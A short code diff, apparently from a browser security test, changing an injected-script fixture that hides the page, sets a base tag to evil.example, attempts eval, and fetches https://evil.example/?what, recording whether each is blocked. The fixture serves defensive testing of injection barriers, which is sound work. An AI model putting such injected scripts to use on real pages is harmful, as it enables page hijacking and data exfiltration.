@@ -33,8 +33,11 @@ SLIP_IN = """() => {
   add("style", { textContent: "body { display: none }" });
   add("base", { href: "https://evil.example/" });
   document.getElementById("bad").click();
-  try { new Function("ran()")(); } catch (error) { window.seen.push("eval"); }
-  fetch("https://evil.example/?what").catch(() => window.seen.push("fetch"));
+  // Later: what is called from here has rights that no page has.
+  setTimeout(() => {
+    try { new Function("ran()")(); } catch (error) { window.seen.push("no eval"); }
+    fetch("https://evil.example/?what").catch(() => window.seen.push("no fetch"));
+  });
 }"""
 READ = """(url) => fetch(url, { credentials: "include" })
   .then((answer) => answer.text(), (error) => `refused: ${error.name}`)"""
